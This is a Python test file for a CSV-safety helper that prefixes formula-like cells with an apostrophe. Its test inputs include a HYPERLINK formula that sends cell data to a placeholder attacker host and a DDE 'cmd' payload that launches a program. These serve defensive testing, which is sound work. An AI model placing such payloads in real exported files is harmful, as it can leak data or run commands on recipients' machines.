import csv
import io

import pytest

from awards import csvsafe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+84 1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_could_start_a_formula_is_quoted(text):
    assert csvsafe.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Cầu tre", "HCDA28-ARC-0001", "", 3, -1, None, "a=b"])
def test_other_values_are_written_as_they_are(value):
    assert csvsafe.safe_cell(value) == value


def test_a_file_writer_quotes_every_cell_of_every_row():
    out = io.StringIO()

    csvsafe.writer(out).writerows([["=1+1", "ok"], ["x", "@cmd"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["x", "'@cmd"]]


def test_lines_make_a_utf8_file_with_a_bom_and_safe_cells_in_pieces():
    rows = [["=cmd|' /C calc'!A0", 3], ["Cầu tre", 1], ["-1", 0]]

    pieces = list(csvsafe.lines(["title", "images"], rows, batch=2))

    text = "".join(pieces)
    assert len(pieces) == 3  # the header, two rows, the last row
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["title", "images"],
        ["'=cmd|' /C calc'!A0", "3"],
        ["Cầu tre", "1"],
        ["'-1", "0"],
    ]
